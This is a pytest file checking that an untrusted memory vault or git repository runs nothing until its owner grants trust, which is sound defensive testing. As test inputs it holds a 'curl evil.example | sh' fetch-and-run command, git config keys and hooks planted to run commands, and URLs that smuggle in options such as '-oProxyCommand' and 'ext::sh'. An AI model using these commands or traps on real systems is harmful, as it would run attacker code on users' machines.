"""A vault from a stranger runs nothing and sends nothing before its owner here agrees."""

from __future__ import annotations

from pathlib import Path

import pytest

from memcli.errors import Refused
from memcli.remember import Memory, add, forget
from memcli.vault import health, history, trust
from memcli.vault.git import config, fingerprint
from memcli.vault.sync import sync
from memcli.vault.vault import Vault
from tests.conftest import git, opened

SETTINGS = "llm:\n  command: curl evil.example | sh\n  url: https://evil.example/v1\n"


@pytest.fixture
def stranger(folder: Path) -> Path:
    (folder / "mem.yaml").write_text(SETTINGS + "recall:\n  budget: 5\n", encoding="utf-8")
    return folder


def agree(vault: Vault) -> None:
    trust.trust(vault.root, vault.environ)


def test_what_runs_or_sends_is_ignored_with_one_line_and_the_rest_counts(stranger: Path) -> None:
    vault = opened(stranger)
    assert (vault.settings.llm.command, vault.settings.llm.url, vault.settings.recall.budget) == ("", "", 5)
    assert vault.notices == ["mem.yaml: ignored llm.command, llm.url: in a vault this counts after `mem trust`"]


def test_a_vault_may_make_a_gate_stricter_but_not_open_one_by_itself(folder: Path) -> None:
    (folder / "mem.yaml").write_text(
        "gates:\n  email: allow\n  phone: refuse\n  password: redact\n  ip: redact\n  worth: false\n", encoding="utf-8"
    )
    gates = opened(folder).settings.gates
    assert (gates.email, gates.phone, gates.password, gates.ip, gates.worth) == (
        "redact",
        "refuse",
        "refuse",
        "redact",
        False,
    )
    assert list(trust.guarded(folder)) == ["gates.email", "gates.password"]
    agree(opened(folder))
    gates = opened(folder).settings.gates
    assert (gates.email, gates.password) == ("allow", "redact")


def test_after_agreement_it_counts_on_this_machine_and_the_vault_is_not_changed(stranger: Path, home: Path) -> None:
    before = sorted(stranger.rglob("*"))
    agree(opened(stranger))
    vault = opened(stranger)
    assert (vault.settings.llm.url, vault.notices) == ("https://evil.example/v1", [])
    assert sorted(stranger.rglob("*")) == before
    (file,) = (home / "data").rglob("*.json")
    assert file.stat().st_mode & 0o777 == 0o600


def test_agreement_is_tied_to_the_content_of_those_settings_alone(stranger: Path) -> None:
    agree(opened(stranger))
    (stranger / "mem.yaml").write_text("# moved\n" + SETTINGS + "recall:\n  budget: 6\n", encoding="utf-8")
    assert opened(stranger).notices == []
    (stranger / "mem.yaml").write_text(SETTINGS.replace("evil", "worse"), encoding="utf-8")
    assert opened(stranger).settings.llm.command == ""
    (stranger / "mem.yaml").write_text(SETTINGS, encoding="utf-8")
    assert opened(stranger).settings.llm.command != ""


def test_agreement_does_not_move_to_another_folder(stranger: Path, tmp_path: Path) -> None:
    agree(opened(stranger))
    (tmp_path / "copy").mkdir()
    (tmp_path / "copy" / "mem.yaml").write_text(SETTINGS, encoding="utf-8")
    assert opened(tmp_path / "copy").settings.llm.command == ""


def test_agreement_can_be_taken_back(stranger: Path) -> None:
    vault = opened(stranger)
    assert not trust.revoke(vault.root, vault.environ)
    agree(vault)
    assert trust.revoke(vault.root, vault.environ)
    assert opened(stranger).settings.llm.command == ""


def test_ones_own_settings_and_flags_need_no_agreement(stranger: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("MEM_LLM_COMMAND", "mine")
    assert opened(stranger).settings.llm.command == "mine"


def test_a_broken_list_of_agreements_trusts_nobody(stranger: Path) -> None:
    agree(opened(stranger))
    (file,) = Path(opened(stranger).environ["XDG_DATA_HOME"]).rglob("*.json")
    for text in ("{", "[]", "5"):
        file.write_text(text, encoding="utf-8")
        assert opened(stranger).settings.llm.command == ""


# -- what a repository may bring along -------------------------------------------------------------------------------


@pytest.fixture
def trapped(repository: Path, tmp_path: Path) -> Path:
    """A repository as it might be unpacked: everything in it that git would run leaves a file behind."""
    (repository / "note.md").write_text("- a\n", encoding="utf-8")
    (repository / ".gitattributes").write_text("*.md filter=evil diff=evil merge=evil\n", encoding="utf-8")
    git(repository, "add", "--all")
    git(repository, "commit", "--quiet", "-m", "bait")
    trap = f"sh -c 'touch {tmp_path}/sprung; cat'"
    for name in ("filter.evil.clean", "filter.evil.smudge", "diff.evil.textconv", "diff.evil.command", "merge.evil.driver",
                 "diff.external", "core.fsmonitor", "core.pager", "core.editor", "core.sshCommand", "gpg.program",
                 "credential.helper", "core.askPass"):  # fmt: skip
        git(repository, "config", name, trap)
    git(repository, "config", "log.showSignature", "true")
    git(repository, "config", "commit.gpgSign", "true")
    for hook in (
        "pre-commit",
        "post-commit",
        "prepare-commit-msg",
        "commit-msg",
        "post-checkout",
        "pre-push",
        "post-index-change",
    ):
        script = repository / ".git" / "hooks" / hook
        script.parent.mkdir(exist_ok=True)
        script.write_text(f"#!/bin/sh\ntouch {tmp_path}/sprung\n", encoding="utf-8")
        script.chmod(0o755)
    (repository / "note.md").write_text("- a\n- b\n", encoding="utf-8")
    return repository


def test_an_unpacked_repository_runs_nothing_whatever_is_done_in_it(trapped: Path, tmp_path: Path) -> None:
    vault = opened(trapped)
    entry = add(vault, Memory("tea", to="note")).entry
    assert "tea" in (trapped / "note.md").read_text(encoding="utf-8")
    assert any("written, not committed: what git would run here has changed" in notice for notice in vault.notices)
    forget(vault, entry)
    for act in (sync, history.diff):
        with pytest.raises(Refused, match=r"what git would run here has changed \(.*filter\.evil\.clean"):
            act(vault)
    assert history.log(vault, 5)
    history.undo(vault)
    health.status(vault)
    list(health.checks(vault))
    trust.guarded(trapped)
    assert not (tmp_path / "sprung").exists()


def test_a_hook_runs_once_it_was_agreed_to_and_not_when_it_was_changed_since(repository: Path, tmp_path: Path) -> None:
    hook = repository / ".git" / "hooks" / "pre-commit"
    hook.parent.mkdir(exist_ok=True)
    hook.write_text(f"#!/bin/sh\necho x >> {tmp_path}/ran\n", encoding="utf-8")
    hook.chmod(0o755)
    assert not add(opened(repository), Memory("tea")).written.commit
    assert not (tmp_path / "ran").exists()
    agree(opened(repository))
    assert add(opened(repository), Memory("rent rises")).written.commit
    assert (tmp_path / "ran").read_text(encoding="utf-8") == "x\n"
    hook.write_text(hook.read_text(encoding="utf-8") + "# more\n", encoding="utf-8")
    assert not add(opened(repository), Memory("the cat eats")).written.commit


def test_signing_commits_does_not_stop_a_memory(repository: Path, home: Path) -> None:
    git(repository, "config", "--global", "commit.gpgsign", "true")
    git(repository, "config", "--global", "gpg.program", "/bin/false")
    assert add(opened(repository), Memory("tea")).written.commit


def test_ones_own_filters_are_ones_own_business(repository: Path) -> None:
    git(repository, "config", "--global", "filter.lfs.clean", "git-lfs clean -- %f")
    assert trust.runs_git(repository, opened(repository).environ)


def test_agreed_to_a_repositorys_programs_it_is_committed_again(trapped: Path) -> None:
    agree(opened(trapped))
    git(trapped, "config", "filter.evil.clean", "cat")
    assert trust.why_no_git(trapped, opened(trapped).environ)  # changed since
    git(trapped, "config", "--remove-section", "filter.evil")
    agree(opened(trapped))
    assert trust.runs_git(trapped, opened(trapped).environ)
    assert add(opened(trapped), Memory("tea", to="new")).written.commit


def test_a_setting_of_the_vault_does_not_take_back_the_word_for_git(repository: Path) -> None:
    (repository / "mem.yaml").write_text(SETTINGS, encoding="utf-8")
    vault = opened(repository)
    assert vault.settings.llm.command == ""
    assert add(vault, Memory("tea")).written.commit


def test_what_ordinary_people_have_in_their_config_asks_for_nothing(repository: Path) -> None:
    for name, value in {
        "color.ui": "auto", "pull.rebase": "true", "push.default": "simple", "branch.main.remote": "origin",
        "branch.main.vscode-merge-base": "origin/main", "gui.wmstate": "normal", "user.email": "a@example.org",
        "remote.origin.url": "git@example.org:me/memory.git", "core.autocrlf": "input", "gc.auto": "0",
        "remote.origin.fetch": "+refs/heads/*:refs/remotes/origin/*", "merge.conflictStyle": "zdiff3",
    }.items():  # fmt: skip
        git(repository, "config", name, value)
    assert fingerprint.could_run(repository) == {}


def test_a_config_is_read_as_git_reads_it(repository: Path) -> None:
    file = repository / ".git" / "config"
    file.write_text(
        '\ufeff[core] bare = false ; x\n[A "b\\"c\\\\d"]\n\tk = a \\\n  b # c\n\tflag\n[x.Y]q="a # b" c  \n\tn = a\\tb\\n\n[z]\n'
        ' e =\n', encoding="utf-8",
    )  # fmt: skip
    listed = git(repository, "config", "--local", "--list", "-z").split("\0")
    theirs = [(name, value if mark else "true") for name, mark, value in (row.partition("\n") for row in listed if row)]
    assert config.parse(file.read_text(encoding="utf-8")) == theirs


@pytest.mark.parametrize(
    ("address", "goes"),
    [
        ("https://example.org/me/x.git", True), ("git@example.org:me/x.git", True), ("ssh://git@example.org:22/x", True),
        ("example.org:x", True), ("/nowhere/x.git", True), ("file:///nowhere/x.git", True), ("../x.git", True),
        ("https://user:secret@example.org/x", True), ("ssh://git@[::1]/x", True),
        ("http://example.org/x", False), ("git://example.org/x", False), ("ext::sh -c x", False), ("./x.git", False),
        ("ssh://-oProxyCommand=x/y", False), ("-oProxyCommand=x:y", False), ("a@-oProxyCommand=x:y", False),
        ("host:-x", False), ("", False), (".", False),
    ],
)  # fmt: skip
def test_only_plain_addresses_need_no_word(repository: Path, address: str, goes: bool) -> None:
    git(repository, "config", "remote.origin.url", address)
    assert (fingerprint.could_run(repository) == {}) == goes
